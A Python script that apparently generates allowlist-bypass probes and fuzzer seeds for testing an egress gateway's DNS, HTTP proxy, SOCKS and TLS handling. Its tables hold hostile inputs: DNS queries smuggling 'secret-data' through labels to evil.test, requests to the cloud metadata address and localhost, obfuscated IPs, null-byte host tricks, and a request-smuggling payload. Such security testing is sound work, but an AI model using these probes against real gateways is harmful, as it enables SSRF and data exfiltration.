"""ways.py: every way in which bypass.py asks for what is not listed, as the bytes that are sent: what its command says inside,
and what the fuzzers of the gateway's readers begin with.

    ways.py DIRECTORY       writes DIRECTORY/FUZZER/way-N for each, and says which

The text of this file is part of the command that bypass.py runs: it must need nothing but Python's own modules.
"""
import os
import socket
import ssl
import struct
import sys

WORLD, SIX, METADATA = '93.184.1.1', '2600:1::1', '169.254.169.254'


def connect(target):
    return b'CONNECT ' + target + b' HTTP/1.1\r\nHost: ' + target + b'\r\n\r\nGET /hello HTTP/1.0\r\n\r\n'


def absolute(target, host=None):
    return b'GET http://' + target + b'/hello HTTP/1.1\r\nHost: ' + (host or target) + b'\r\nConnection: close\r\n\r\n'


def socks(kind, body, port, command=1):
    return b'\5\1\0\5' + bytes([command, 0, kind]) + body + struct.pack('>H', port) + b'GET /hello HTTP/1.0\r\n\r\n'


def socks_name(name, port=80):
    return socks(3, bytes([len(name)]) + name, port)


def question(text, kind=1):
    labels = b''.join(bytes([len(label)]) + label for label in text.encode().split(b'.')) + b'\0'
    return b'\x12\x34\1\0\0\1\0\0\0\0\0\0' + labels + struct.pack('>HH', kind, 1)


def hello(name):
    """The first bytes of TLS."""
    said = ssl.MemoryBIO()
    context = ssl.create_default_context()
    context.check_hostname = False
    context.verify_mode = ssl.CERT_NONE
    try:
        context.wrap_bio(ssl.MemoryBIO(), said, server_hostname=name).do_handshake()
    except ssl.SSLWantReadError:
        pass
    return said.read()


# Names that are looked up, and dialled.
NAMES = ('evil.test', 'web.test.evil.test', 'evilweb.test', 'xweb.test', 'wild.test', 'a.wild.test.evil.test', 'web-test', '2130706433', '0x5db80101',
         '93.12058881', 'WEB.TEST.evil.test')
# Questions of other kinds: data in labels, everything, a whole zone, mail.
QUESTIONS = (('secret-data.evil.test', 16), ('secret.web.test', 16), ('secret.web.test', 1), ('evil.test', 255), ('evil.test', 252), ('evil.test', 15),
             ('evil.test', 65), ('evil.test', 64))
# Listed ones that lead where no name may lead.
LEADS = ('loop.test', 'meta.test', 'private.test', 'self.test', 'mapped.test', 'nat64.test', 'null.test', 'both.test')
TARGETS = (WORLD.encode(), b'[' + SIX.encode() + b']', b'1572339969', b'0x5db80101', b'0135.0270.0001.0001', b'93.184.257', METADATA.encode(), b'127.0.0.1',
           b'localhost', b'evil.test', b'web.test.evil.test', b'evil.test#web.test', b'web.test@evil.test', b'web.test%00.evil.test', b'web.test\t',
           b'web.test..', b'xn--', b'[::1]', b'[::ffff:5db8:101]')
SOCKS_NAMES = (b'evil.test', b'web.test\0.evil.test', b'evil.test\0web.test', WORLD.encode(), b'1572339969', b'web.test.evil.test', b'', b'a' * 255)


def proxied():
    """(name, bytes) of all that is said to the proxy."""
    for name in LEADS:
        yield 'listed name by CONNECT ' + name, connect(name.encode() + b':80')
        yield 'listed name by socks ' + name, socks_name(name.encode())
    for target in TARGETS:
        yield 'CONNECT ' + target.decode('latin-1'), connect(target + b':80')
        yield 'absolute-form ' + target.decode('latin-1'), absolute(target)
    yield 'CONNECT to another port', connect(b'web.test:22')
    yield 'absolute-form, another Host', absolute(b'web.test', b'evil.test')
    yield 'two requests, the second unlisted', (b'GET http://web.test/hello HTTP/1.1\r\nHost: web.test\r\n\r\n'
                                                b'GET http://evil.test/hello HTTP/1.1\r\nHost: evil.test\r\n\r\n')
    yield 'length and chunks', (b'POST http://web.test/hello HTTP/1.1\r\nHost: web.test\r\nContent-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n'
                                b'0\r\n\r\nGET http://evil.test/ HTTP/1.1\r\nHost: evil.test\r\n\r\n')
    yield 'socks, IPv4', socks(1, socket.inet_aton(WORLD), 80)
    yield 'socks, IPv6', socks(4, socket.inet_pton(socket.AF_INET6, SIX), 80)
    for name in SOCKS_NAMES:
        yield 'socks, name ' + repr(name), socks_name(name)
    yield 'socks, associate', socks(1, socket.inet_aton(WORLD), 53, 3)
    yield 'socks, bind', socks(1, socket.inet_aton(WORLD), 80, 2)


def seeds():
    """(fuzzer, bytes) of everything."""
    for name in NAMES + LEADS:
        yield 'dns', question(name)
        yield 'dns', question(name, 28)
    for text, kind in QUESTIONS:
        yield 'dns', question(text, kind)
    for _, text in proxied():
        if text[0] != 5:
            yield 'head', text
        else:  # greeting and request come one behind the other, and are read so
            yield 'head', text[:3]
            yield 'head', text[3:]
    for name in ('evil.test', 'web.test', None):
        yield 'hello', hello(name)


if __name__ == '__main__' and sys.argv[0] != '-c':
    for number, (fuzzer, data) in enumerate(seeds()):
        os.makedirs(f'{sys.argv[1]}/{fuzzer}', exist_ok=True)
        with open(f'{sys.argv[1]}/{fuzzer}/way-{number:03}', 'wb') as seed:
            seed.write((struct.pack('>H', len(data)) if fuzzer == 'dns' else b'') + data)
        print(fuzzer, number)
